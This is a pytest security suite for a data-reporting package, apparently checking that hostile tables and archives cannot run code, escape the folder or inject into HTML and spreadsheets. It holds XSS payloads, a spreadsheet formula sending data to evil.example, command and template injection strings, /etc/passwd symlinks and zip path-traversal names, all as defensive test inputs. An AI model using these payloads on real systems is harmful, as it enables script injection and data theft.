"""A folder of tables from a stranger runs nothing, reaches nothing, reads and writes nowhere else, and fools nobody.

What is out of scope: a notebook from a stranger is a program, and to run it is to trust its author.
"""

import ast
import base64
import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import zipfile
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from conftest import excerpt
from hypothesis import example, given, settings
from hypothesis import strategies as st
from in_files import DATA, put, rows_of
from papermill.translators import PythonTranslator

import afpak
from afpak import cli, outside, show, style
from afpak.outside import packed, ucdp
from afpak.record import checks, export
from afpak.record.rules import cells
from afpak.record.schema import TABLES
from afpak.reports import plan
from afpak.reports.inputs import Inputs
from afpak.reports.page import publish
from afpak.reports.page.sanitise import sanitise

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

SCRIPTS = (
    "<script>document.title='ran'</script>",
    "<img src=x onerror=\"document.title='ran'\">",
    "<svg onload=alert(1)>",
    "</td></table></main><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    '" onfocus="alert(2)" autofocus tabindex="0',
    "javascript:alert(3)",
    "[a](javascript:alert(4)) ![b](http://evil.example/b.png) <http://evil.example>",
    r"$\frac{a}{$ $\bad$ \href{javascript:alert(5)}{c} $$",
    '=HYPERLINK("http://evil.example/?"&A1;"d")',
    "{{ 7*7 }} {% include '/etc/passwd' %} ${x} $(touch ran) `touch ran`",
)
# what some program would run or obey, were it to look for it where the tables lie
PLANTED = [
    *("sitecustomize.py", "usercustomize.py", "conftest.py", "csv.py", "pandas.py", "numpy.py", "matplotlib.py"),
    *("json.py", "afpak.py", "ipython_config.py", "ipython_kernel_config.py", "startup.py", "planted.pth"),
]
FOLDER = "it's \"a\" \\ folder\n'''; {x} <script>alert(6)</script> # é"  # as far as a disk allows


@pytest.fixture(autouse=True)
def bounded():
    """What hangs fails."""
    signal.signal(signal.SIGALRM, lambda *_: pytest.fail("it hangs"))
    signal.alarm(120)
    yield
    signal.alarm(0)


@pytest.fixture(scope="module")
def few(tmp_path_factory):
    """The first rows of the real tables, with all that they refer to."""
    folder = tmp_path_factory.mktemp("few")
    first = [(name, row[table.key]) for name, table in TABLES.items() for row in rows_of(name)[:20]]
    for name, (header, *rows) in excerpt(first).items():
        put(folder, name, [dict(zip(header, row, strict=True)) for row in rows])
    return folder


@pytest.fixture
def folder(few, tmp_path):
    """A copy to spoil."""
    return shutil.copytree(few, tmp_path / "data")


def spoil(folder, name, column, text):
    """Put text into a column of the first row."""
    rows = rows_of(name, folder)
    rows[0][column] = text
    put(folder, name, rows)


def refused(folder):
    """The sentences with which a folder is refused, the same by load and by check."""
    with pytest.raises(afpak.DataError) as error:
        afpak.load(folder, as_of="2026-03-01")
    said = {str(problem) for problem in error.value.problems}
    assert said <= {str(problem) for problem in checks.check(folder)}
    assert all(sentence.isprintable() and len(sentence) < 400 for sentence in said)
    return sorted(said)


def written(tables):
    """Columns of free text, which a stranger fills with what they like."""
    for table in TABLES.values():
        for column in table.columns:
            free = column.type in ("text", "list") and not column.ref and column.name not in (table.key, *cells.CODES)
            if free:
                yield table.name, column


def hostile(folder):
    """The real tables with every cell of free text hostile, and traps for programs beside them."""
    shutil.copytree(DATA, folder)
    number = 0
    for table in TABLES.values():
        rows = rows_of(table.name, folder)
        columns = [column for name, column in written(TABLES) if name == table.name]
        for row in rows:
            for column in columns:
                if row[column.name]:
                    number += 1
                    text = f"{SCRIPTS[number % len(SCRIPTS)]} {number}"
                    row[column.name] = text.replace(";", ",") if column.type == "list" else text
            if "url" in row:
                row["url"] = f"https://evil.example/$(touch)`x`{{{{7}}}}%22%3E%3Cscript%3E&{number}"
        put(folder, table.name, rows)
    for name in PLANTED:
        (folder / name).write_text("import os, pathlib\npathlib.Path(__file__).with_name('ran').touch()\n")
    (folder / "matplotlibrc").write_text("text.usetex: True\nbackend: module://sitecustomize\nfigure.dpi: 3\n")
    return folder


# Files that are no tables


def test_a_pipe_in_place_of_a_table_is_not_waited_for(folder):
    for name in ("episodes.csv", "exceptions.csv"):
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)
    assert refused(folder)[0] == (
        "episodes.csv:1:-: cannot be read (not a regular file) – every folder needs this table"
    )
    assert len(plan.wanted(["claims"], {}, {}, str(folder), every=True)) == 1  # of no episode
    assert Inputs.of(str(folder)) == Inputs.of(str(folder))


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/stdin", "/etc/passwd", "../outside.csv", "sub", "claims.csv"])
def test_a_link_that_leads_elsewhere_is_not_followed(folder, target):
    (folder.parent / "outside.csv").write_text("secret,of,the,reader\n")
    (folder / "sub").mkdir()
    (folder / "claims.csv").unlink()
    (folder / "claims.csv").symlink_to(target)
    (sentence,) = refused(folder)
    assert re.match(r"claims.csv:1:-: cannot be read \(", sentence)
    assert "secret" not in sentence
    assert "root" not in sentence
    assert "secret" not in str(Inputs.of(str(folder)))


def test_a_link_within_the_folder_and_a_link_to_the_folder_are_followed(folder, few):
    (folder / "claims.csv").rename(folder / "claims-2026.csv")
    (folder / "claims.csv").symlink_to("claims-2026.csv")
    (folder.parent / "mine").symlink_to(folder)
    pd.testing.assert_frame_equal(afpak.load(folder.parent / "mine").claims, afpak.load(few).claims)


def test_a_file_of_a_terabyte_is_refused_unread(folder):
    for name in ("claims.csv", "beside.json"):
        with (folder / name).open("ab") as file:
            file.truncate(1 << 40)
    assert "larger than 32 megabytes" in refused(folder)[0]
    assert Inputs.of(str(folder)) == Inputs.of(str(folder))


def test_a_name_of_a_folder_that_no_disk_can_hold_is_a_sentence(capsys):
    for name in ("a\0b", "x" * 5000, "\ud800"):
        with pytest.raises(afpak.DataError, match="there is no data folder"):
            afpak.load(name)
        for command in (["check", name], ["report", "claims", "--data", name]):
            assert cli.main(command) in (1, 2)
            assert len(capsys.readouterr().err.splitlines()) == 1


# Tables that are too much


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"a,b\n" + b"x" * 1_000_000 + b",y\n", "episodes.csv:2:-: more than 100,000 characters in the row"),
        (b"a,b\nx,y\n" + b'"' + b"x\n" * 300_000 + b'",y\n', "episodes.csv:3:-: more than 100,000 characters in"),
        (b",".join(b"c%d" % n for n in range(100_000)), "episodes.csv:1:-: more than 100,000 characters in the row"),
        (b"," * 1_000_000, "episodes.csv:1:-: 1,000,001 columns, where 5 are known"),
        (b"a\n" * 200_000, "episodes.csv:100001:-: more than 100,000 lines; nothing after it was read"),
        (b"\n" * 200_000, "episodes.csv:1:-: no header line"),
        (b"\0" * 1_000_000, "episodes.csv:1:-: more than 100,000 characters in the row"),
    ],
    ids=["cell", "lines", "columns", "commas", "rows", "blank", "nul"],
)
def test_what_is_too_much_is_one_sentence_and_not_a_long_wait(folder, content, sentence):
    (folder / "episodes.csv").write_bytes(content)
    own = csv.field_size_limit()
    try:
        for limit in (131_072, 1 << 30):  # the csv module's own, and what another library in the process makes of it
            csv.field_size_limit(limit)
            assert any(sentence in said for said in refused(folder))
    finally:
        csv.field_size_limit(own)


def test_a_count_beyond_all_people_or_of_no_plain_digits_is_refused(folder):
    counts = ["1e12", "1000000000", "9" * 400, "1e400", "inf", "nan", "0x7f", "٣", "-1", "1_000", " 1", "1.0"]
    rows = rows_of("claims", folder)
    for row, count in zip(rows, counts, strict=False):
        row["low"] = count
    put(folder, "claims", rows)
    said = [sentence for sentence in refused(folder) if "bad integer" in sentence]
    assert {sentence.split(": ")[0] for sentence in said} == {f"claims.csv:{n + 2}:low" for n in range(len(counts))}


def test_figures_that_follow_each_other_in_a_circle_are_refused_as_no_reader_would_come_to_an_end(folder):
    rows = rows_of("claims", folder)
    one, two, three = ({**rows[0], "claim_id": f"circle-{n}", "claimed_on": "2025-10-10"} for n in "abc")
    one["supersedes"], two["supersedes"], three["supersedes"] = "circle-b", "circle-a", "circle-a"
    one["claimed_on"] = two["claimed_on"] = "2025-10-20"
    put(folder, "claims", [*rows, one, two, three])
    assert [re.split(": | \\(", s)[1] for s in refused(folder)] == ["the chain runs in a circle"] * 2


# Text that fools readers and programs


def test_a_character_that_nobody_sees_is_refused_wherever_it_stands(folder):
    hidden = "\u202e\u202a\u2066\u2069\u200f\u061c\u200b\u2060\ufeff\u00ad\U000e0041\x00\x07\x1b\x7f\x9b\x1c\r\ue000"
    places = [("claims", "note"), ("sources", "relays"), ("sources", "url"), ("events", "kind"), ("actors", "name")]
    for name, column in places:
        rows = rows_of(name, folder)
        for row, character in zip(rows, hidden, strict=False):
            row[column] = f"https://a{character}b"
        put(folder, name, rows)
    with pytest.raises(afpak.DataError) as error:
        afpak.load(folder)
    assert {(p.file, p.column, p.value) for p in error.value.problems} == {
        (f"{name}.csv", column, f"https://a{character}b") for name, column in places for character in hidden
    }


def test_no_sentence_controls_the_terminal_that_shows_it(folder, capsys):
    escape = "\x1b]0;pwned\x07\x1b[2J\n::error::\r\u202e"
    for name, key in (
        ("events", "episode_id"),
        ("claims", "claimant"),
        ("claims", "claim_id"),
        ("episodes", "episode_id"),
    ):
        rows = rows_of(name, folder)
        for row in rows[:5]:
            row[key] = escape
        put(folder, name, [{**row, escape: ""} for row in rows])
    (folder / "exceptions.csv").write_text(f'rule,table,key,reason,date\n"{escape}","{escape}",a,b,"{escape}"\n')
    assert cli.main(["check", str(folder)]) == 1
    assert cli.main(["report", "claims", "--data", str(folder)]) == 1
    assert cli.main(["report", "claims", "--episode", escape]) == 2
    said = capsys.readouterr()
    assert len(said.out) > 1000
    assert all(line.isprintable() for line in (said.out + said.err).split("\n"))


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", " =", "\t=", "\n@", "＝", "＋", "－", "＠", "a;=", "a; @", '";=', 'a;"=', "a\t-"]
)
def test_text_that_a_spreadsheet_would_run_is_known_whatever_it_divides_cells_at(start):
    note = TABLES["claims"].column("note")
    assert cells.formula(note, f"{start}HYPERLINK(A1)") == (
        "looks like a spreadsheet formula",
        "start with another character",
    )
    assert cells.formula(note, "1 = 1; a-b") is None


def test_a_formula_is_never_written_into_a_csv_neither_changed_nor_unchanged(folder, tmp_path, capsys):
    spoil(folder, "claims", "note", "=HYPERLINK(A1)")
    for form in ("csv", "datapackage"):
        assert cli.main(["export", str(tmp_path / form), "--format", form, "--data", str(folder)]) == 1
        assert "claims.csv:2:note: looks like a spreadsheet formula (=HYPERLINK(A1))" in capsys.readouterr().err
        assert not list((tmp_path / form).iterdir())


def as_spreadsheet_sees_it(link, also=(";", "\t")):
    """Cells of a file in a link, divided at commas, and as spreadsheets of other countries divide it."""
    text = base64.b64decode(re.search(r'base64,([^"]*)', link)[1]).decode("utf-8-sig")
    for delimiter in (",", *also):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row


@settings(max_examples=60, deadline=None)
@given(text=st.text(st.sampled_from("=+-@ ;,\t\r\n\"'＝a"), max_size=12))
def test_no_text_in_a_saved_table_starts_a_formula_in_any_country(tables, text):
    rows = tables.claims.head(1).assign(note=text)
    assert not [
        cell for cell in as_spreadsheet_sees_it(show.csv(tables, "claims", rows)) if re.match(r"\s*[=+@＝-]", cell)
    ]


def test_a_stranger_s_formulas_still_reach_programs_unchanged(folder, tmp_path):
    spoil(folder, "claims", "note", "=1+1")
    assert cli.main(["export", str(tmp_path / "out"), "--format", "geojson", "--data", str(folder)]) == 0
    tables = afpak.load(folder)
    export.export(tables, tmp_path, "sqlite")
    import sqlite3

    with sqlite3.connect(tmp_path / "afpak.sqlite") as base:
        assert base.execute("SELECT note FROM claims").fetchone() == ("=1+1",)
    base.close()


def test_an_address_is_http_in_plain_characters_or_no_link():
    url = TABLES["sources"].column("url")
    for address in (
        "javascript:alert(1)",
        "data:text/html,x",
        "https://a b",
        'https://a"b',
        "https://а.example",
        "//a",
    ):
        assert cells.shape(url, address) == ("malformed url", "give an http or https address, in ASCII")
    for address in ("javascript:alert(1)", "data:text/html,x", "//a", "JaVaScRiPt:x", " https://a", None):
        assert "<" not in str(show.link(address, "x"))


# Pages


class Markup(HTMLParser):
    """Names of the tags and of the attributes that a reader of markup finds."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_decl(self, decl):
        self.tags.add("!")

    handle_comment = unknown_decl = handle_decl


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<table>", "<th>", "<th colspan='", "<td data-v=\"", "</thead>", "<caption>", "</caption>", "'", '"', ">", "<", "a",
             "</table>", "<a href=", "javascript:", "<script>", "<!--", "-->", "<svg>", "<style>", "&quot;", " onx=", "<math>", "\0"]
        ),
        max_size=12,
    ).map("".join)
)  # fmt: skip
@example("<a href=<table><table><a href=<table>")
@example('<table><td data-v=" onx="<table>')  # the name of an attribute in the value of another is text
def test_what_the_sanitiser_lets_through_it_lets_through_again(markup):
    """Its own last touches make nothing of text that was text."""
    once = sanitise(markup)
    assert sanitise(once) == once
    page = Markup(once)
    assert not page.tags & {"script", "svg", "style", "math", "!"}
    assert not any(name.startswith("on") for name in page.attributes)


def test_a_caption_stays_inside_the_label_made_of_it():
    caption = '<caption>a" onfocus="alert(1)" b=\'<b>c</b> &lt;d&gt; &amp;lt;</caption>'
    shown = nbformat.v4.new_output("display_data", {"text/html": f"<table>{caption}<tr><td>x</td></tr></table>"})
    cells = [nbformat.v4.new_markdown_cell("# A report\n\n**Is it?** Yes."), nbformat.v4.new_code_cell(outputs=[shown])]
    page, _ = publish.render(nbformat.v4.new_notebook(cells=cells), plan.wanted(["places"], {}, {})[0])
    assert (
        '<div class="table" role="region" tabindex="0" '
        'aria-label="a&quot; onfocus=&quot;alert(1)&quot; b=&#x27;c &lt;d&gt; &amp;lt;"><table>'
    ) in page


def test_words_between_dollar_signs_are_words_in_charts_and_tables():
    text = r"$\bad$ $x^2$"

    @style.chart
    def plot():
        chart, axes = style.figure(text, text, text, height=1.5, width=4, key=[style.handle(text)])
        axes[0, 0].scatter([text, "b"], [1, 2], label=text)  # labels of such ticks are made late
        axes[0, 0].set_title(text)
        axes[0, 0].set_yticks([1, 2], labels=[text, text])
        return chart

    chart = plot()
    chart.savefig(io.BytesIO(), format="png", dpi=30)
    assert text in [label.get_text() for label in chart.axes[0].get_xticklabels()]
    # the classes by which MathJax of either age passes over what Jupyter shows
    assert 'class="tex2jax_ignore mathjax_ignore"' in show.table(pd.DataFrame({"a": [text]}), text)


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(codec="utf-8") | st.sampled_from("\"'\\\n\r\t{}$#"), max_size=40))
def test_a_name_of_a_folder_is_a_literal_in_the_notebook_that_papermill_writes(name):
    (assigned,) = ast.parse(PythonTranslator.codify({"data_dir": name}, "Parameters")).body
    assert ast.literal_eval(assigned.value) == name


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """A report over hostile tables, asked for inside their folder by the installed command."""
    place = tmp_path_factory.mktemp("hostile")
    data = hostile(place / FOLDER)
    command = [
        Path(sys.executable).with_name("afpak"),
        "report",
        "places",
        "--as-of",
        "2025-10-12",
        "--data",
        ".",
        "--out",
        place / "out",
    ]
    done = subprocess.run(command, cwd=data, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return data, place / "out" / "places-as-of-2025-10-12.html"


def test_nothing_beside_the_tables_is_run_or_obeyed(report):
    data, page = report
    assert not (data / "ran").exists()
    assert {p.name for p in page.parent.iterdir() if not p.name.startswith(".")} == {
        *(f"{page.stem}.{suffix}" for suffix in ("html", "ipynb", "json")), "index.html", "index.json",
    }  # fmt: skip
    done = subprocess.run(
        [Path(sys.executable).with_name("afpak"), "check", "."], cwd=data, capture_output=True, text=True
    )
    assert done.returncode == 1
    assert "HTML in prose" in done.stdout
    assert not (data / "ran").exists()


AUDIT = """
import os, sys
import afpak, sqlite3, _strptime, encodings.idna
from afpak import check, export
from pathlib import Path
data, out = map(Path, sys.argv[1:])
told = []
def hook(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.exec", "os.fork", "os.posix_spawn", "os.system", "ctypes.", "urllib.", "webbrowser.")):
        told.append(event)
    if event == "open" and isinstance(arguments[0], str):
        path, write = Path(os.path.abspath(arguments[0])), isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
        write = write or bool((arguments[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
        if path.suffix not in (".py", ".pyc", ".so") and not path.is_relative_to(out if write else data) and not path.is_relative_to(out):
            told.append(f"{'write' if write else 'read'} {path}")
    if event == "exec" and not str(arguments[0].co_filename).startswith(("<frozen", sys.prefix, sys.base_prefix, "<string>", str(Path(afpak.__file__).parent))):
        told.append(f"exec {arguments[0].co_filename}")
sys.addaudithook(hook)
check(data)
tables = afpak.load(data, as_of="2026-03-01", episode="open-war-2026", start="2026-02-01")
str(tables), tables.note(tables.claims), tables.claims_in_full()
for form in ("geojson", "sqlite"):
    export(tables, out, form)
print(told)
"""


def test_reading_checking_and_exporting_touch_no_network_no_program_and_no_other_file(report, tmp_path):
    done = subprocess.run(
        [sys.executable, "-c", AUDIT, report[0], tmp_path], cwd="/", capture_output=True, text=True, timeout=60
    )
    assert (done.stdout.strip(), done.stderr) == ("[]", "")


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None and "AFPAK_CHROMIUM" not in os.environ:
        pytest.skip("no chromium on this machine")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    page = browser.new_page()
    page.asked, page.dialogs = [], []
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("dialog", lambda dialog: page.dialogs.append(dialog.message) or dialog.dismiss())
    yield page
    page.close()


@pytest.mark.parametrize("name", ["places-as-of-2025-10-12.html", "index.html"])
def test_no_script_of_the_tables_runs_and_no_request_leaves_in_a_real_browser(report, page, name):
    page.goto(report[1].with_name(name).as_uri())
    title = page.title()
    for button in page.get_by_role("button").all()[:4]:
        button.click()  # our own script moves what strangers wrote
    assert page.title() == title != "ran"
    assert page.dialogs == []
    assert [url for url in page.asked if not url.startswith(("file:", "data:"))] == []
    assert (
        page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))"
        )
        == []
    )
    foreign = "script, iframe, base, form, object, embed, svg:not(.drawing, [aria-hidden]), link, math"
    assert page.locator(foreign).count() == 1, "our own script alone"
    assert set(page.evaluate("[...document.links].map(a => a.protocol)")) <= {"https:", "http:", "file:", "data:"}
    if name != "index.html":
        assert all(script in page.inner_text("main") for script in SCRIPTS[:3]), "it is there, as text"


def heard(server):
    """What anybody who connected has said."""
    said = b""
    with suppress(TimeoutError):
        while True:
            connection, _ = server.accept()
            with connection, suppress(TimeoutError):
                connection.settimeout(0.2)
                said += connection.recv(100)
    return said


def test_the_content_policy_stops_what_the_sanitiser_would_have_let_through(report, page, tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as evil:
        evil.settimeout(0.3)
        there = f"http://127.0.0.1:{evil.getsockname()[1]}"
        past = f"""
            <script>document.title = 'ran'; alert(1); fetch('{there}')</script><script src="{there}/x.js"></script>
            <img src="x" onerror="document.title = 'ran'"><img src="{there}/x.png"><iframe src="{there}"></iframe>
            <iframe srcdoc="<script>alert(2)</script>"></iframe><link rel="stylesheet" href="{there}/x.css">
            <style>@import "{there}/y.css"; main {{ background: url({there}/y.png) }}</style><object data="{there}"></object>
            <svg onload="document.title = 'ran'"></svg><a id="x" href="javascript:document.title = 'ran'">x</a><base href="{there}">
        """
        html = report[1].read_text(encoding="utf-8").replace("</main>", f"{past}</main>")
        (tmp_path / "past.html").write_text(html, encoding="utf-8")
        page.goto((tmp_path / "past.html").as_uri())
        page.locator("#x").click(force=True)
        page.wait_for_timeout(100)
        assert page.title().startswith("Places")
        assert page.dialogs == []
        assert heard(evil) == b"", "Chromium connects for a frame before the policy forbids it, but says nothing"


def test_the_notebook_of_the_report_is_whole_and_names_the_folder_only_as_asked(report):
    notebook = json.loads(report[1].with_suffix(".ipynb").read_text(encoding="utf-8"))
    assert 'data_dir = "."' in "".join("".join(cell["source"]) for cell in notebook["cells"])
    assert str(report[0]) not in report[1].read_text(encoding="utf-8")


# Files of other projects


def zipped(path, name, text):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, text)
    return path


def test_a_zip_that_swells_is_refused_before_it_is_unpacked(tmp_path, monkeypatch):
    path = zipped(tmp_path / "ged251-csv.zip", "a.csv", b"0" * (3 << 20))
    monkeypatch.setattr(packed, "BOMB", 1 << 20)
    with pytest.raises(outside.OutsideError, match="more than 100 times its size"):
        ucdp.read(path)


def test_a_name_in_a_zip_leads_nowhere(tmp_path, monkeypatch):
    place = tmp_path / "a" / "b"
    place.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(place))  # where it is unpacked, so that a way out ends in sight
    for name in ("../../evil.csv", str(tmp_path / "evil.csv"), "..\\..\\evil.csv"):
        with pytest.raises(outside.OutsideError):
            ucdp.read(zipped(place / "x.zip", name, "a,b\n1,2\n"))
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a", "b", "x.zip"]


@pytest.mark.parametrize("pages", ["1e400", '"many"', '{"a": 1}', "[1]", "1e18", "NaN"])
def test_a_page_that_claims_any_number_of_pages_is_events_or_one_sentence(tmp_path, pages):
    (tmp_path / "a.json").write_text(f'{{"TotalPages": {pages}, "Result": [{{"id": 1}}]}}')
    with pytest.raises(outside.OutsideError):
        ucdp.read(tmp_path / "a.json")


def test_a_pipe_in_place_of_a_download_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "a.csv")
    with pytest.raises(outside.OutsideError, match="is no file"):
        ucdp.read(tmp_path / "a.csv")


def test_a_name_with_signs_that_engines_expand_is_one_file(tmp_path):
    (tmp_path / "a1.csv").write_text("secret\n")
    for name in ("a[1].csv", "a*.csv", "a?.csv"):
        (tmp_path / name).write_text("a,b\n1,2\n")
        with pytest.raises(outside.OutsideError, match="of another kind"):
            ucdp.read(tmp_path / name)
